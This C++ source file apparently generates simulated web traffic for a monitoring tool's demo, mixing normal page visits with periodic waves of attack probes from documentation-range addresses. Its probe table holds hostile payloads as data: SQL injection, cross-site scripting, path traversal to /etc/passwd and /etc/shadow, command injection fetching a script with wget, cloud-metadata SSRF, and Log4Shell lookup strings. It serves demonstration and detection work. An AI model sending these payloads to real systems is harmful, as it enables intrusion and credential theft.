// SPDX-License-Identifier: Apache-2.0
#include "core/pipeline/demo_visits.h"

#include <fmt/format.h>

#include <array>
#include <string_view>
#include <utility>

namespace mirrorscope::pipeline {
namespace {

constexpr double kQuietSeconds = 35;  // between waves, half to one and a half of it
constexpr double kWaveSeconds = 12;
constexpr double kAttackShareInWave = 0.18;
constexpr double kAttackShareOutside = 0.004;
constexpr double kIntensityInWave = 1.2;

constexpr std::array<std::string_view, 16> kPages{"/",
                                                  "/catalog/item?id=88",
                                                  "/catalog/item?id=4711",
                                                  "/catalog?page=2&sort=price",
                                                  "/static/css/site.css?v=20261123",
                                                  "/static/js/app.js",
                                                  "/images/logo.svg",
                                                  "/search?q=garden+chair",
                                                  "/search?q=blue%20kettle",
                                                  "/cart",
                                                  "/account/orders?year=2026",
                                                  "/help/shipping",
                                                  "/api/v2/items?limit=20",
                                                  "/api/v2/prices/4711",
                                                  "/favicon.ico",
                                                  "/robots.txt"};

constexpr std::array<std::string_view, 5> kAgents{
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "ExampleShop/4.2 (Android 15)"};

struct Probe {
    std::string_view method;
    std::string_view target;
    std::string_view contentType;
    std::string_view body;
    std::string_view agent;
};

/// One way of attacking: what a wave repeats.
struct WaveKind {
    std::array<Probe, 3> probes;
};

constexpr std::string_view kForm = "application/x-www-form-urlencoded";
constexpr std::string_view kJson = "application/json";
constexpr std::string_view kPython = "python-requests/2.31.0";

constexpr std::array<WaveKind, 7> kWaves{{
    {{{{"GET", "/catalog/item?id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20", "", "",
        kPython},
       {"POST", "/api/v2/session", kJson, R"({"user":"anna' OR 1=1-- ","remember":true})", kPython},
       {"GET", "/search?q=1%27%20AND%20SLEEP%285%29--%20", "", "", kPython}}}},
    {{{{"GET", "/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E", "", "", ""},
       {"POST", "/profile", kForm, "bio=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E&city=Bern", ""},
       {"GET", "/help/shipping?lang=%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E", "", "", ""}}}},
    {{{{"GET", "/download?file=../../../../etc/passwd", "", "", "curl/8.5.0"},
       {"GET", "/export?name=..%2f..%2f..%2f..%2fetc%2fshadow", "", "", "curl/8.5.0"},
       {"GET", "/images/..%252f..%252f..%252fwindows/win.ini", "", "", "curl/8.5.0"}}}},
    {{{{"GET", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "", "", kPython},
       {"POST", "/api/v2/convert", kForm, "file=a.png%7Cwget+http%3A%2F%2F198.51.100.9%2Fx.sh", kPython},
       {"GET", "/status?cmd=%24%28id%29", "", "", kPython}}}},
    {{{{"GET", "/.git/config", "", "", "Nikto/2.5.0"},
       {"GET", "/wp-login.php", "", "", "Nikto/2.5.0"},
       {"GET", "/phpmyadmin/index.php", "", "", "sqlmap/1.8.11#stable"}}}},
    {{{{"POST", "/api/v2/preview", kJson, R"({"url":"http://169.254.169.254/latest/meta-data/"})", kPython},
       {"GET", "/proxy?url=http%3A%2F%2F127.0.0.1%3A6379%2F", "", "", kPython},
       {"GET", "/api/v2/preview?url=file%3A%2F%2F%2Fetc%2Fpasswd", "", "", kPython}}}},
    {{{{"GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D", "", "", "${jndi:ldap://198.51.100.9/a}"},
       {"POST", "/login", kForm, "user=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fb%7D&password=x", ""},
       {"GET", "/api/v2/items?class.module.classLoader.resources=x", "", "", kPython}}}},
}};

/// RFC 5737 addresses: they belong to nobody.
std::string documentationAddress(std::size_t number) {
    constexpr std::array<std::string_view, 3> kBlocks{"192.0.2", "198.51.100", "203.0.113"};
    return fmt::format("{}.{}", kBlocks[number % kBlocks.size()], 1 + number / kBlocks.size() % 250);
}

}  // namespace

DemoVisitors::DemoVisitors(std::vector<std::string> hosts, DemoRandom::result_type seed)
    : m_hosts(std::move(hosts)), m_random(seed) {
    std::uniform_real_distribution<double> first(3, kQuietSeconds);
    m_waveStart = first(m_random);
    m_waveEnd = m_waveStart;
    beginWave(m_waveStart);
}

void DemoVisitors::beginWave(double seconds) {
    std::uniform_real_distribution<double> length(0.6, 1.5);
    m_waveStart = seconds;
    m_waveEnd = m_waveStart + kWaveSeconds * length(m_random);
    m_waveKind = pick(kWaves.size());
    m_attacker = documentationAddress(pick(24));
}

double DemoVisitors::intensity(double seconds) const {
    return seconds >= m_waveStart && seconds < m_waveEnd ? kIntensityInWave : 1;
}

DemoVisit DemoVisitors::next(double seconds) {
    if (seconds >= m_waveEnd) {
        std::uniform_real_distribution<double> quiet(0.5 * kQuietSeconds, 1.5 * kQuietSeconds);
        beginWave(m_waveEnd + quiet(m_random));
    }
    const bool inWave = seconds >= m_waveStart;
    return chance(inWave ? kAttackShareInWave : kAttackShareOutside) ? attack() : browse();
}

DemoVisit DemoVisitors::browse() {
    DemoVisit visit;
    visit.host = m_hosts[pick(m_hosts.size())];
    visit.target = kPages[pick(kPages.size())];
    visit.client = documentationAddress(pick(600));
    visit.userAgent = kAgents[pick(kAgents.size())];
    if (chance(0.08)) {
        visit.method = "POST";
        visit.target = "/cart/items";
        visit.contentType = kJson;
        visit.body = fmt::format(R"({{"item":{},"count":{}}})", 1000 + pick(9000), 1 + pick(4));
    }
    return visit;
}

DemoVisit DemoVisitors::attack() {
    const Probe& probe = kWaves[m_waveKind].probes[pick(3)];
    DemoVisit visit;
    visit.method = probe.method;
    visit.host = m_hosts.front();
    visit.target = probe.target;
    visit.client = m_attacker;
    visit.userAgent = probe.agent.empty() ? kAgents[0] : probe.agent;
    visit.contentType = probe.contentType;
    visit.body = probe.body;
    return visit;
}

std::size_t DemoVisitors::pick(std::size_t count) {
    return std::uniform_int_distribution<std::size_t>(0, count - 1)(m_random);
}

bool DemoVisitors::chance(double share) {
    return std::bernoulli_distribution(share)(m_random);
}

}  // namespace mirrorscope::pipeline
